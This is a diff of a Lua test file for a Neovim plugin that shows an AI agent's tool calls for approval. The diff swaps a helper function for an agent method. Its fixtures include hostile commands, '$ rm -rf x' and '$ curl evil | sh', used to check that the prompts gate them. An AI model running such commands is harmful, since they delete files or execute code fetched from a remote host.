@@ -14,14 +14,6 @@ local function asks(id, input, fields)
   return { permission = { toolCall = vim.tbl_extend("force", call, fields or {}) } }
 end
 
----@param agent harness.Agent
----@return string[]
-local function outcomes(agent)
-  return vim.tbl_map(function(answer)
-    return answer.result.outcome.optionId or answer.result.outcome.outcome
-  end, agent:answers(METHOD))
-end
-
 ---@param id string
 ---@param command string
 ---@return table
@@ -87,7 +79,7 @@ T.case("the card names the server of a tool, and a kind does not allow it", OPTS
   }))]])
   nvim:lua("require('cursor_agent').reject()")
   nvim:wait_turns(1)
-  T.eq(outcomes(agent), { "reject-once", "allow-once" })
+  T.eq(agent:outcomes(), { "reject-once", "allow-once" })
 end)
 
 T.case("a read with a command in its input is a command", OPTS, function(nvim)
@@ -96,7 +88,7 @@ T.case("a read with a command in its input is a command", OPTS, function(nvim)
   nvim:prompt("go", { open = false })
   nvim:wait_screen("asks to run a command")
   nvim:wait_screen("$ rm -rf x")
-  T.eq(outcomes(agent), {})
+  T.eq(agent:outcomes(), {})
 end)
 
 T.case("a call that changes is drawn again, and a key typed for the old one decides nothing", OPTS, function(nvim)
@@ -115,7 +107,7 @@ T.case("a call that changes is drawn again, and a key typed for the old one deci
   nvim:lua("require('cursor_agent').set_mode('ask')")
   nvim:wait_screen("$ curl evil | sh")
   nvim:keys("a")
-  T.eq(outcomes(agent), {}, "it has only just come up")
+  T.eq(agent:outcomes(), {}, "it has only just come up")
   T.eq(nvim:lua("return #require('cursor_agent').pending()"), 1)
   T.eq(nvim:lua("return require('cursor_agent').pending()[1].revision"), 1)
   nvim:lua("require('cursor_agent.decide').SETTLE_MS = 0")
@@ -123,7 +115,7 @@ T.case("a call that changes is drawn again, and a key typed for the old one deci
   nvim:wait_screen("$ rm x")
   nvim:keys("r")
   nvim:wait_turns(1)
-  T.eq(outcomes(agent), { "reject-once" })
+  T.eq(agent:outcomes(), { "reject-once" })
 end)
 
 T.case("a typed accept is for what was there when typing began", OPTS, function(nvim)
@@ -153,7 +145,7 @@ T.case("a typed accept is not for a decision that came meanwhile", OPTS, functio
   nvim:wait("#require('cursor_agent').pending() == 1", "the decision")
   nvim:keys("ept()<CR>")
   nvim:wait("vim.fn.mode() == 'n'", "the end of the command line")
-  T.eq(outcomes(agent), {})
+  T.eq(agent:outcomes(), {})
   T.eq(nvim:lua("return #require('cursor_agent').pending()"), 1)
 end)
 
@@ -169,11 +161,11 @@ T.case("a key of the user's own that calls accept() does not answer what has jus
   nvim:keys("<Esc>Q")
   nvim:wait("_G.said ~= nil", "the mapping to run")
   T.contains(nvim:lua("return _G.said[2]"), "nothing was answered")
-  T.eq(outcomes(agent), {})
+  T.eq(agent:outcomes(), {})
   -- A script is not held back.
   nvim:lua("require('cursor_agent').accept()")
   nvim:wait_turns(1)
-  T.eq(outcomes(agent), { "allow-once" })
+  T.eq(agent:outcomes(), { "allow-once" })
 end)
 
 T.case("always is for the whole call", OPTS, function(nvim)
@@ -200,7 +192,7 @@ T.case("always is for the whole call", OPTS, function(nvim)
     nvim:keys("r")
   end
   nvim:wait_turns(1)
-  T.eq(outcomes(agent), { "allow-always", "allow-once", "reject-once", "reject-once", "reject-once" })
+  T.eq(agent:outcomes(), { "allow-always", "allow-once", "reject-once", "reject-once", "reject-once" })
 end)
 
 T.case("one id for allow and reject is answered as cancelled, before anyone chooses", OPTS, function(nvim)
@@ -221,7 +213,7 @@ T.case("one id for allow and reject is answered as cancelled, before anyone choo
   nvim:use(agent)
   nvim:prompt("go", { open = false })
   nvim:wait_turns(1)
-  T.eq(outcomes(agent), { "cancelled", "cancelled", "cancelled" })
+  T.eq(agent:outcomes(), { "cancelled", "cancelled", "cancelled" })
   T.eq(#nvim:events("CursorAgentDecision"), 0, "nothing is asked")
   T.contains(table.concat(nvim:texts("notice"), "\n"), "answered as cancelled")
 end)
@@ -241,7 +233,7 @@ T.case("one id for two ways to allow is answered as cancelled once it is chosen"
   nvim:cmd("CursorAgent decisions")
   nvim:keys("a")
   nvim:wait_turns(1)
-  T.eq(outcomes(agent), { "cancelled" })
+  T.eq(agent:outcomes(), { "cancelled" })
   T.contains(table.concat(nvim:texts("notice"), "\n"), "answered as cancelled")
 end)
 
@@ -260,7 +252,7 @@ T.case("reject never rejects for good, by key or by rule", OPTS, function(nvim)
   nvim:cmd("CursorAgent decisions")
   nvim:keys("r")
   nvim:wait_turns(1)
-  T.eq(outcomes(agent), { "cancelled", "cancelled" })
+  T.eq(agent:outcomes(), { "cancelled", "cancelled" })
 end)
 
 T.case("patterns and commands of any size do not stop the editor", OPTS, function(nvim)
